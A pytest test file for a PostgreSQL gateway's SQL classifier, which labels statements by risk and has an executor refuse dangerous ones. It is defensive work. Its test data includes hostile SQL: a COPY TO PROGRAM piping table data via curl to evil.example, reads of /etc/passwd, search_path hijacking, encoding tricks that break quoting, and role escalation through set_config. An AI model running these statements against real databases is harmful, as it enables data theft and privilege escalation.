"""SQL classification as a specification: what each statement is, as PostgreSQL's own
parser reads it, and the forms that must not slip past a rule."""

from __future__ import annotations

import pytest

from addons.classifiers import postgres as sqlops


def one(sql: str, phase: str = "execute") -> dict:
    return sqlops.classify("db", phase, sql).details


@pytest.mark.parametrize(
    "sql, action, classes, tables",
    [
        ("SELECT * FROM users WHERE id = 1", "read", ["READ"], ["users"]),
        ("select u.id from public.users u join orders o on o.uid = u.id", "read", ["READ"], ["orders", "public.users"]),
        ("SELECT 'DROP TABLE users' -- DROP TABLE users", "read", ["READ"], []),  # a string and a comment
        ("SELECT $$DELETE FROM users$$", "read", ["READ"], []),
        ("SELECT lower(email), count(*) FROM users GROUP BY 1", "read", ["READ"], ["users"]),
        ("SELECT pg_catalog.format_type(23, NULL)", "read", ["READ"], []),
        ("SELECT * FROM users FOR UPDATE", "write", ["READ"], ["users"]),  # row locks
        ("INSERT INTO users(name) VALUES ('x')", "write", ["WRITE"], ["users"]),
        ("UPDATE users SET name = 'x' WHERE id = 1", "write", ["WRITE"], ["users"]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "write", ["WRITE"], ["s", "t"]),
        ("DELETE FROM users WHERE id = 1", "delete", ["WRITE"], ["users"]),
        ("TRUNCATE users", "delete", ["WRITE"], ["users"]),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", "delete", ["READ", "WRITE"], ["users"]),
        ("SELECT * INTO copy FROM users", "ddl", ["DDL", "READ"], ["copy", "users"]),
        ("CREATE TABLE t (a int)", "ddl", ["DDL"], ["t"]),
        ("CREATE TABLE t2 AS SELECT * FROM users", "ddl", ["DDL"], ["t2", "users"]),
        ("DROP TABLE users", "ddl", ["DDL"], []),
        ("ALTER TABLE users ADD COLUMN x int", "ddl", ["DDL"], ["users"]),
        ("DO $$BEGIN DELETE FROM users; END$$", "exec", ["FUNCTION"], []),
        ("CALL cleanup()", "exec", ["FUNCTION"], []),
        ("SELECT wipe_everything()", "exec", ["FUNCTION", "READ"], []),  # user functions can do anything
        ("SELECT nextval('users_id_seq')", "write", ["READ"], []),
        ("SELECT pg_terminate_backend(42)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT lo_import('/etc/passwd')", "admin", ["FUNCTION", "READ"], []),
        ("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT set_config('role', 'postgres', false)", "admin", ["FUNCTION", "READ"], []),
        ("COPY users TO PROGRAM 'curl -d @- evil.example'", "admin", ["FUNCTION"], ["users"]),
        ("COPY users FROM '/etc/passwd'", "admin", ["MISC"], ["users"]),
        ("COPY users TO STDOUT", "read", ["READ"], ["users"]),
        ("COPY users FROM STDIN", "write", ["WRITE"], ["users"]),
        ("ALTER SYSTEM SET wal_level = minimal", "admin", ["MISC"], []),
        ("SET ROLE postgres", "admin", ["ROLE"], []),
        ("SET SESSION AUTHORIZATION postgres", "admin", ["ROLE"], []),
        ("RESET ROLE", "admin", ["ROLE"], []),
        ("GRANT ALL ON users TO PUBLIC", "admin", ["ROLE"], ["users"]),
        ("CREATE ROLE x SUPERUSER", "admin", ["ROLE"], []),
        ("SET search_path = evil, pg_catalog", "admin", ["MISC_SET"], []),  # would reroute unqualified names
        ("SET standard_conforming_strings = off", "admin", ["MISC_SET"], []),  # backslashes would end strings
        ("SET NAMES 'SJIS'", "admin", ["MISC_SET"], []),  # a multibyte encoding can swallow a quote
        ("RESET client_encoding", "admin", ["MISC_SET"], []),
        ("SET statement_timeout = '5s'", "read", ["MISC_SET"], []),
        ("PREPARE TRANSACTION 'tx1'", "admin", ["MISC"], []),
        ("COMMIT PREPARED 'other-apps-tx'", "admin", ["MISC"], []),
        ("ROLLBACK PREPARED 'other-apps-tx'", "admin", ["MISC"], []),
        ("SELECT pg_catalog.lo_create(0)", "admin", ["FUNCTION", "READ"], []),  # schema-qualified: same list
        ("SELECT pg_catalog.pg_notify('orders', 'x')", "admin", ["FUNCTION", "READ"], []),
        ("SELECT pg_try_advisory_lock(1)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT public.lower('x')", "exec", ["FUNCTION", "READ"], []),  # not the built-in
        ('SELECT "Count"(1)', "exec", ["FUNCTION", "READ"], []),  # a quoted name is another function
        ("SELECT pg_catalog.pg_get_viewdef(1), pg_catalog.pg_table_is_visible(1)", "read", ["READ"], []),
        ("SHOW server_version", "read", ["MISC"], []),
        ("BEGIN", "read", ["MISC"], []),
        ("VACUUM users", "admin", ["MISC"], ["users"]),
        ("EXPLAIN DELETE FROM users", "read", ["READ"], ["users"]),  # planned, not run
        ("EXPLAIN ANALYZE DELETE FROM users", "delete", ["WRITE"], ["users"]),  # ANALYZE runs it
        ("PREPARE p AS DELETE FROM users WHERE id = $1", "delete", ["WRITE"], ["users"]),
        ("EXECUTE p(1)", "unknown", ["UNKNOWN"], []),  # until the session says what p is
        ("DECLARE c CURSOR FOR SELECT * FROM users", "read", ["READ"], ["users"]),
        ("SELEC * FROM users", "unknown", ["UNKNOWN"], []),
    ],
)
def test_statements(sql, action, classes, tables):
    d = one(sql)
    assert (d["action"], d["classes"], d["tables"]) == (action, classes, tables)


@pytest.mark.parametrize(
    "sql, where",
    [
        ("UPDATE users SET a = 1", False),
        ("UPDATE users SET a = 1 WHERE id = 2", True),
        ("DELETE FROM users", False),
        ("TRUNCATE users", False),
        ("WITH x AS (DELETE FROM users RETURNING 1) SELECT 1", False),  # inside a CTE too
        ("WITH x AS (DELETE FROM users WHERE id = 1 RETURNING 1) SELECT 1", True),
    ],
)
def test_where(sql, where):
    assert one(sql)["where"] is where


@pytest.mark.parametrize(
    "sql, command",
    [("DROP TABLE users", "DROP TABLE"), ("drop index i", "DROP INDEX"), ("SET x = 1", "SET"), ("COMMIT", "COMMIT"),
     ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"), ("PREPARE p AS SELECT 1", "PREPARE"),
     ("insert into t values (1)", "INSERT"), ("create index i on t(a)", "CREATE INDEX"), ("RESET ALL", "RESET")],
)
def test_commands_are_named_as_postgres_names_them(sql, command):
    assert one(sql)["command"] == command


def test_every_statement_of_a_string_is_a_part_and_the_riskiest_action_leads():
    op = sqlops.classify("db", "execute", "SELECT 1; DELETE FROM users; DROP TABLE users")
    assert [p.details["command"] for p in op.parts] == ["SELECT", "DELETE", "DROP TABLE"]
    assert [p.details["sql"] for p in op.parts] == ["SELECT 1", "DELETE FROM users", "DROP TABLE users"]
    assert op.action == "ddl" and op.risk == 80 and op.details["classes"] == ["DDL", "READ", "WRITE"]


def test_describing_runs_nothing_so_it_is_a_read():
    op = sqlops.classify("db", "describe", "DELETE FROM users")
    assert op.action == "read" and op.details["classes"] == ["WRITE"]


@pytest.mark.parametrize(
    "method, path, session, body, problem",
    [
        ("GET", "/execute", "s", {"sql": "select 1"}, "not a pg_bridge request"),
        ("POST", "/query", "s", {"sql": "select 1"}, "not a pg_bridge request"),
        ("POST", "/execute", "", {"sql": "select 1"}, "no pg-bridge-session header"),
        ("POST", "/execute", "s", ["select 1"], "the body is not a JSON object"),
        ("POST", "/execute", "s", {"query": "select 1"}, "sql is missing or not a string"),
        ("POST", "/describe", "s", {"portal": 5}, "portal is not a string"),
    ],
)
def test_malformed_requests_are_unknown(method, path, session, body, problem):
    op = sqlops.classify_request("db", method, path, session, body)
    assert op.action == "unknown" and op.risk == 100 and problem in op.details["reason"]


def test_prepared_names_keep_their_case():
    """The parser folds unquoted names; "P" and p are two statements to the server."""
    assert one('EXECUTE "P"')["name"] == "P" and one("EXECUTE P")["name"] == "p"
    assert one('PREPARE "P" AS SELECT 1')["name"] == "P"


def test_execute_resolves_what_the_session_prepared():
    prepared = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM users").details
    executed = sqlops.resolved(sqlops.classify("db", "execute", "EXECUTE p").parts[0], prepared)
    assert (executed.action, executed.details["command"], executed.details["executes"]) == ("delete", "EXECUTE", "DELETE")
    assert executed.details["tables"] == ["users"] and executed.details["where"] is False
    assert "where" not in prepared  # preparing runs nothing: no WHERE to judge yet


@pytest.mark.parametrize(
    "sql, rows, risk",
    [("UPDATE t SET a = 1 WHERE id = 1", 1, 40), ("UPDATE t SET a = 1 WHERE id > 1", 5000, 60),
     ("UPDATE t SET a = 1", 10, 70), ("DELETE FROM t", None, 100)],
)
def test_the_row_estimate_raises_risk(sql, rows, risk):
    part = sqlops.estimated(sqlops.classify("db", "execute", sql).parts[0], rows)
    assert part.details["rows"] == rows and part.risk == risk


# what the executor refuses whatever the rules say


@pytest.mark.parametrize(
    "sql, refused",
    [
        ("COPY users TO STDOUT", "COPY FROM STDIN / TO STDOUT is not supported"),
        ("COPY users FROM STDIN", "COPY FROM STDIN / TO STDOUT is not supported"),
        ("SET standard_conforming_strings = off", "standard_conforming_strings cannot be changed"),
        ("SET NAMES 'SJIS'", "client_encoding cannot be changed"),
        ("SELECT 1; SET search_path = evil", "search_path cannot be changed"),
        ("SET statement_timeout = '1s'", None),
        ("RESET search_path", None),  # back to the session's default: nothing to fear
        ("COPY users TO '/tmp/x'", None),  # server-side: a matter for the rules (admin)
    ],
)
def test_the_executor_refuses_what_it_cannot_carry(sql, refused):
    from pg_bridge.terminal.executor import unsupported

    problem = unsupported([p.details for p in sqlops.classify("db", "execute", sql).parts])
    assert (problem["M"] if problem else None) == (refused and problem["M"])
    if refused:
        assert refused in problem["M"] and problem["C"] == "0A000"


def test_execute_runs_only_what_was_decided():
    from types import SimpleNamespace

    from pg_bridge.terminal.executor import prepared_guard

    prepare = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM t WHERE id = 1").details
    session = SimpleNamespace(prepared={"p": prepare})
    decided = sqlops.resolved(sqlops.classify("db", "execute", "EXECUTE p").parts[0], prepare)
    guard = prepared_guard(session, [decided.details])
    assert guard() is None
    session.prepared["p"] = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM t").details  # swapped
    assert "changed after it was decided" in guard()["M"]
    del session.prepared["p"]
    assert "changed after it was decided" in guard()["M"]


# settings, in every spelling that changes them


READ_WRITE_MODE = [
    "SET TRANSACTION READ WRITE",
    "set transaction isolation level serializable, read write",
    "SET TRANSACTION READ WRITE, ISOLATION LEVEL REPEATABLE READ",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED READ WRITE",
    "BEGIN READ WRITE",
    "BEGIN TRANSACTION READ WRITE",
    "BEGIN WORK ISOLATION LEVEL SERIALIZABLE READ WRITE",
    "START TRANSACTION READ WRITE",
    "start transaction deferrable, read write",
    "SET transaction_read_only = off",
    "SET LOCAL transaction_read_only TO false",
    "SET default_transaction_read_only = 'no'",
    "SET SESSION default_transaction_read_only = 0",
    "SET default_transaction_read_only TO of",
    "SET default_transaction_read_only FROM CURRENT",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT pg_catalog.set_config('transaction_read_only', 'off', true)",
    "SELECT set_config('TRANSACTION_READ_ONLY', 'f', true)",
    "SELECT set_config('transaction_read_only', current_setting('x'), true)",
    "SELECT 1; BEGIN READ WRITE",
]


@pytest.mark.parametrize("sql", READ_WRITE_MODE)
def test_turning_read_only_mode_off_is_administration_in_every_spelling(sql):
    from pg_bridge.terminal.executor import unsupported

    op = sqlops.classify("db", "execute", sql)
    part = [p for p in op.parts if p.details.get("settings")][-1].details
    assert part["action"] == "admin" and part["protected"][0] in ("transaction_read_only",
                                                                 "default_transaction_read_only")
    problem = unsupported([p.details for p in op.parts])  # refused whatever the rules say
    assert problem["C"] == "0A000" and "read_only cannot be changed through the gateway" in problem["M"]


@pytest.mark.parametrize(
    "sql, settings",
    [
        ("BEGIN READ ONLY", ["transaction_read_only"]),  # psycopg's read_only = True
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
         ["transaction_deferrable", "transaction_isolation", "transaction_read_only"]),
        ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", ["default_transaction_read_only"]),
        ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", ["transaction_isolation"]),
        ("SET default_transaction_read_only = on", ["default_transaction_read_only"]),
        ("SET transaction_read_only TO 'yes'", ["transaction_read_only"]),
        ("SET CONSTRAINTS ALL DEFERRED", ["constraints"]),
        ("SELECT set_config('jit', 'off', false)", ["jit"]),  # asyncpg's type introspection
        ("SELECT current_setting('jit') AS cur, set_config('jit', 'off', false) AS new", ["jit"]),
        ("SELECT set_config('statement_timeout', $1, false)", ["statement_timeout"]),
        ("SELECT pg_catalog.set_config('application_name', 'x', true)", ["application_name"]),
        ("SET LOCAL lock_timeout = '2s'", ["lock_timeout"]),
    ],
)
def test_harmless_setting_changes_are_reads_in_every_spelling(sql, settings):
    from pg_bridge.terminal.executor import unsupported

    d = one(sql)
    assert (d["action"], d["settings"], "protected" in d) == ("read", settings, False)
    assert "MISC_SET" in d["classes"] and unsupported([d]) is None


@pytest.mark.parametrize(
    "sql, action",
    [
        ("SELECT set_config('role', 'custody_admin', false)", "admin"),
        ("SELECT set_config('session_authorization', 'x', false)", "admin"),
        ("SELECT set_config('search_path', 'evil', false)", "admin"),
        ("SELECT set_config('SEARCH_PATH', 'evil', true)", "admin"),
        ("SELECT set_config(name, 'x', false) FROM settings_to_change", "admin"),  # any setting at all
        ("SELECT set_config('client_encoding', 'SJIS', false)", "admin"),
        ("SELECT set_config('session_replication_role', 'replica', false)", "admin"),
        ("SELECT public.set_config('jit', 'off', false)", "exec"),  # not the built-in
    ],
)
def test_set_config_is_judged_by_the_setting_it_changes(sql, action):
    assert one(sql)["action"] == action


# what drivers send on their own behalf, and the same functions used on purpose


@pytest.mark.parametrize(
    "sql, action",
    [
        ("SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;", "read"),  # asyncpg's pool reset
        ("SELECT pg_advisory_unlock_all()", "read"),
        ("SELECT pg_catalog.pg_advisory_unlock(42)", "read"),
        ("SELECT pg_advisory_unlock_shared(1, 2)", "read"),
        ("SELECT pg_advisory_lock(42)", "admin"),  # taking a lock others wait on is not housekeeping
        ("SELECT pg_advisory_xact_lock(42)", "admin"),
        ("SELECT pg_try_advisory_lock_shared(42)", "admin"),
        ("SELECT evil.pg_advisory_unlock_all()", "admin"),  # another schema's: named like the dangerous ones
        ("DISCARD ALL", "read"),
        ("DEALLOCATE ALL", "read"),
        ("UNLISTEN *", "read"),
        ("RESET ALL", "read"),
    ],
)
def test_session_housekeeping_is_what_it_is(sql, action):
    assert sqlops.classify("db", "execute", sql).action == action


@pytest.mark.parametrize("sql", ["NOTIFY orders", "NOTIFY orders, 'shipped'", "notify \"Orders\"",
                                 "SELECT 1; NOTIFY orders"])
def test_notify_is_a_message_to_other_sessions_like_pg_notify(sql):
    op = sqlops.classify("db", "execute", sql)
    notify = op.parts[-1].details
    assert (notify["command"], notify["classes"], notify["action"]) == ("NOTIFY", ["MISC"], "admin")
    assert notify["channel"] in ("orders", "Orders") and op.action == "admin"


def test_listen_is_refused_by_the_executor_whatever_the_rules_say():
    from pg_bridge.terminal.executor import unsupported

    assert one("LISTEN orders")["action"] == "read"
    assert "LISTEN is not supported" in unsupported([one("LISTEN orders")])["M"]
    assert unsupported([one("UNLISTEN *")]) is None


# other sessions' activity


SERVER_ACTIVITY = [
    "SELECT query FROM pg_stat_activity",
    "SELECT * FROM pg_catalog.pg_stat_activity WHERE pid <> pg_backend_pid()",
    "TABLE pg_stat_activity",
    'SELECT "query" FROM "pg_stat_activity"',
    "WITH a AS (SELECT * FROM pg_stat_activity) SELECT query FROM a",
    "SELECT (SELECT string_agg(query, ';') FROM pg_stat_activity)",
    "SELECT * FROM pg_stat_get_activity(NULL)",
    "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
    "SELECT query, calls FROM pg_stat_statements",
    "SELECT * FROM public.pg_stat_statements(true)",
    "SELECT * FROM pg_locks",
    "SELECT * FROM pg_catalog.pg_lock_status()",
    "SELECT pg_blocking_pids(42)",
    "SELECT gid, owner FROM pg_prepared_xacts",
    "SELECT * FROM pg_stat_progress_vacuum",
    "DECLARE c CURSOR FOR SELECT query FROM pg_stat_activity",
    "PREPARE peek AS SELECT query FROM pg_stat_activity",
    "SELECT row_to_json(a) FROM pg_stat_activity a",
]


@pytest.mark.parametrize("sql", SERVER_ACTIVITY)
def test_reading_other_sessions_activity_is_administration(sql):
    d = one(sql)
    assert d["action"] == "admin" and d["server_activity"] and "MISC" in d["classes"]


@pytest.mark.parametrize("sql", ["SELECT pg_backend_pid()", "SELECT current_query()", "SELECT * FROM pg_stat_user_tables",
                                 "SELECT * FROM pg_prepared_statements", "SELECT * FROM pg_cursors"])
def test_the_sessions_own_state_stays_a_read(sql):
    assert one(sql)["action"] == "read"


def test_statements_of_a_string_keep_their_text_after_non_ascii():
    """pglast gives character offsets: a statement after an ü must not be cut a byte early."""
    op = sqlops.classify("db", "execute", "SELECT 'üü', 'x'; UPDATE t SET a = 'ä' WHERE id = 1; SELECT '✓'")
    assert [p.details["sql"] for p in op.parts] == ["SELECT 'üü', 'x'", "UPDATE t SET a = 'ä' WHERE id = 1",
                                                    "SELECT '✓'"]


# what a result column may carry (the masker hides what carries a masked column)


@pytest.mark.parametrize(
    "sql, columns, carried",
    [
        # (names, whole-row tables, keyed tables) per result column
        ("SELECT lower(password), count(*) FROM users", ["lower", "count"],
         [({"password"}, set(), set()), (set(), set(), set())]),
        ("SELECT u FROM users u", ["u"], [({"u"}, {'"users"'}, set())]),
        ("SELECT u::text FROM public.users u", ["u"], [({"u"}, {'"public"."users"'}, set())]),
        ("SELECT row_to_json(u), json_agg(u) FROM users u", ["row_to_json", "json_agg"],
         [(set(), set(), {'"users"'}), (set(), set(), {'"users"'})]),
        ("SELECT to_jsonb(u) - 'x' FROM users u", ["?column?"], [({"u"}, {'"users"'}, set())]),  # not a row any more
        ("SELECT row_to_json(s) FROM (SELECT password AS p FROM users) s", ["row_to_json"],
         [({"s", "password"}, set(), set())]),  # a derived row: what it is made of, not keyed by table columns
        ("SELECT p FROM (SELECT password || '' AS p FROM users) s", ["p"], [({"p", "password"}, set(), set())]),
        ("SELECT s.array FROM (SELECT ARRAY[password] FROM users) s", ["array"],
         [({"array", "password"}, set(), set())]),  # a column the server names
        ("SELECT x FROM (SELECT password FROM users) AS s(x)", ["x"], [({"x", "password"}, set(), set())]),
        ("WITH c(x) AS (SELECT md5(password) FROM users) SELECT x FROM c", ["x"], [({"x", "password"}, set(), set())]),
        ("SELECT v FROM users, unnest(ARRAY[password]) AS f(v)", ["v"], [({"v", "password"}, set(), set())]),
        ("SELECT lower(d) FROM users AS u(a, b, c, d)", ["lower"], [({"d", "u"}, {'"users"'}, set())]),
        ("SELECT (SELECT max(id) FROM users WHERE password = 'x')", ["max"], [({"id", "password"}, set(), set())]),
        ("SELECT name FROM users UNION SELECT password FROM users", ["name"], [({"name", "password"}, set(), set())]),
        ("VALUES (1, (SELECT password FROM users))", ["column1", "column2"],
         [(set(), set(), set()), ({"password"}, set(), set())]),
        ("UPDATE users SET score = 1 RETURNING id, upper(email)", ["id", "upper"],
         [({"id"}, set(), set()), ({"email"}, set(), set())]),
        ("SELECT *, lower(name) FROM (SELECT name, password || '' AS p FROM users) s", ["name", "p", "lower"],
         [({"name"}, set(), set()), ({"p", "password"}, set(), set()), ({"name"}, set(), set())]),
        ("SHOW server_version", ["server_version"], [(set(), set(), set())]),
        ("EXPLAIN SELECT password FROM users", ["QUERY PLAN"], [(set(), set(), set())]),
    ],
)
def test_result_columns_carry_what_they_are_computed_from(sql, columns, carried):
    from addons.classifiers.postgres.lineage import lineage

    got = lineage(sql).columns(columns)
    assert [(set(c.names), set(c.tables), set(c.keyed)) for c in got] == carried


@pytest.mark.parametrize("sql", ["EXECUTE p(1)", "FETCH 5 FROM c", "CALL proc()", "SELECT 1; SELECT 2", "SELEC 1"])
def test_results_of_another_statement_have_no_lineage_of_their_own(sql):
    from addons.classifiers.postgres.lineage import lineage

    assert lineage(sql) is None  # the terminal reads what they run, or masks them whole


# statements of one shape: the same SQL with other constants


def uncached(sql: str, phase: str = "execute"):
    sqlops._statements.cache_clear()
    sqlops.SHAPES.clear()
    return sqlops.classify("db", phase, sql)


def other_constants(sql: str, value: str) -> str:
    """`sql` with every constant replaced by `value` (a number, a string) of its kind."""
    from pglast import parser

    out, at = [], 0
    for t in parser.scan(sql):
        if t.name in sqlops.CONSTANT_TOKENS:
            out += [sql[at:t.start], f"'{value}'" if t.name != "ICONST" else str(len(value))]
            at = t.end + 1
    return "".join(out) + sql[at:]


SHAPED = [
    "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
    "select * from users where email = 'a@b.c' and id > 3 -- note",
    "UPDATE pgbench_accounts SET abalance = abalance + -4321 WHERE aid = 77;",
    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, -4, CURRENT_TIMESTAMP);",
    "DELETE FROM users WHERE id = 1",
    "DELETE FROM users",
    "SELECT * FROM users FOR UPDATE",
    "SELECT * INTO copy FROM users WHERE id = 2",
    "WITH gone AS (DELETE FROM users WHERE id = 5 RETURNING *) SELECT count(*) FROM gone",
    "WITH users AS (SELECT 1) SELECT * FROM users",
    "SELECT 'DROP TABLE users' -- DROP TABLE users",
    "SELECT $$DELETE FROM users$$",
    "SELECT nextval('users_id_seq')",
    "SELECT pg_terminate_backend(42)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_read_file('/etc/passwd', 0, 100)",
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
    "SELECT query FROM pg_stat_activity WHERE pid <> 1",
    "SELECT pg_notify('orders', 'x')",
]
"""Each is classified once the cache knows its shape (other constants, first) and must
come out as if nothing were cached."""
NOT_SHAPED = [
    "SELECT set_config('role', 'postgres', false)",  # the setting is a constant
    "SELECT set_config('jit', 'off', false)",
    "SELECT set_config('search_path', 'evil', false), 1",
    "SELECT pg_catalog.set_config('transaction_read_only', 'off', false)",
    "SET search_path = evil, pg_catalog",
    "SET statement_timeout = '5s'",
    "SET transaction_read_only TO 'off'",
    "EXPLAIN (ANALYZE true) DELETE FROM users",
    "EXPLAIN (ANALYZE false) DELETE FROM users",
    "COPY users FROM '/etc/passwd'",
    "COPY users TO PROGRAM 'curl -d @- evil.example'",
    "PREPARE TRANSACTION 'tx1'",
    "COMMIT PREPARED 'other-apps-tx'",
    "NOTIFY orders, 'x'",
    "SELECT 1; DELETE FROM users WHERE id = 2",
    "DELETE FROM users WHERE id = 2; SELECT 1",
    "SELECT 1; SELECT set_config('role', 'postgres', false)",
    "DO $$BEGIN DELETE FROM users; END$$",
    *READ_WRITE_MODE,
]


@pytest.mark.parametrize("sql", SHAPED + NOT_SHAPED)
@pytest.mark.parametrize("value", ["jit", "off", "a@b.c", "x"])
def test_a_known_shape_is_classified_as_if_nothing_were_cached(sql, value):
    expected = {phase: uncached(sql, phase) for phase in ("execute", "describe")}
    uncached(other_constants(sql, value))
    assert {phase: sqlops.classify("db", phase, sql) for phase in expected} == expected


@pytest.mark.parametrize("sql, shaped", [(s, True) for s in SHAPED] + [(s, False) for s in NOT_SHAPED])
def test_only_a_single_statement_that_reads_no_constant_is_classified_by_its_shape(sql, shaped, monkeypatch):
    import pglast

    uncached(other_constants(sql, "jit"))
    sqlops._statements.cache_clear()  # the shapes stay: only they can answer
    parses = []
    real = pglast.parse_sql
    monkeypatch.setattr(pglast, "parse_sql", lambda text: parses.append(text) or real(text))
    sqlops.classify("db", "execute", sql)
    assert (parses == []) == shaped
